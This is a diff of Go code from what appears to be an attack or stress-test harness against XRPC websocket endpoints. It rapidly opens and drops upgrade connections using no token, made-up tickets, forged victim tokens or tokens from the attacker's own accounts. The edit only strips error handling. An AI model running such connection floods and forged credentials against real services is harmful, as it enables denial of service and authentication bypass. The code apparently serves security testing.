@@ -25,34 +25,25 @@ func openings() []Attack {
 }
 
 // pass makes what opens a stream: the query and the authorization of the i-th opening.
-type pass func(i int) (query, token string, err error)
+type pass func(i int) (query, token string)
 
-func noToken(*Target, string) (pass, error) {
-	return func(int) (string, string, error) { return "", "none", nil }, nil
+func noToken(*Target, string) pass {
+	return func(int) (string, string) { return "", "none" }
 }
 
-func madeUpTicket(*Target, string) (pass, error) {
-	return func(int) (string, string, error) { return "?ticket=" + string(unknownDID())[8:], "none", nil }, nil
+func madeUpTicket(*Target, string) pass {
+	return func(int) (string, string) { return "?ticket=" + string(unknownDID())[8:], "none" }
 }
 
-func forgedToken(t *Target, method string) (pass, error) {
-	return func(i int) (string, string, error) {
-		token, err := forge(t.Victims[i%len(t.Victims)], t.Audience, method)
-		return "", token, err
-	}, nil
+func forgedToken(t *Target, method string) pass {
+	return func(i int) (string, string) { return "", forge(t.Victims[i%len(t.Victims)], t.Audience, method) }
 }
 
 // ownAccounts uses tokens of the attacker's accounts.
-func ownAccounts(t *Target, method string) (pass, error) {
-	accounts, err := t.accounts(40)
-	if err != nil {
-		return nil, err
-	}
-	tokens, err := t.tokens(accounts, method)
-	if err != nil {
-		return nil, err
-	}
-	return func(i int) (string, string, error) { return "", tokens[i%len(tokens)], nil }, nil
+func ownAccounts(t *Target, method string) pass {
+	accounts := t.accounts(40)
+	tokens := t.tokens(accounts, method)
+	return func(i int) (string, string) { return "", tokens[i%len(tokens)] }
 }
 
 // The rate of the openings, and how long each lasts. Who leaves sooner gives its place back.
@@ -62,25 +53,18 @@ const (
 	openFor      = 50 * time.Millisecond
 )
 
-func hangUps(method string, by func(*Target, string) (pass, error)) func(context.Context, *Target) (*Prepared, error) {
-	return func(_ context.Context, t *Target) (*Prepared, error) {
-		next, err := by(t, method)
-		if err != nil {
-			return nil, err
-		}
-		return &Prepared{Run: func(ctx context.Context) error {
+func hangUps(method string, by func(*Target, string) pass) prepare {
+	return func(_ context.Context, t *Target) *Prepared {
+		next := by(t, method)
+		return &Prepared{Run: func(ctx context.Context) {
 			pace(ctx, openingRate, openingLanes, func(ctx context.Context, i int) {
-				query, token, err := next(i)
-				if err != nil {
-					return // then there is one attempt less
-				}
+				query, token := next(i)
 				t.tried()
 				t.hangUp(ctx, "GET /xrpc/"+method+query+" HTTP/1.1\r\nHost: "+t.Addr+"\r\nAuthorization: Bearer "+token+
 					"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "+
 					"AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
 			})
-			return nil
-		}}, nil
+		}}
 	}
 }
 
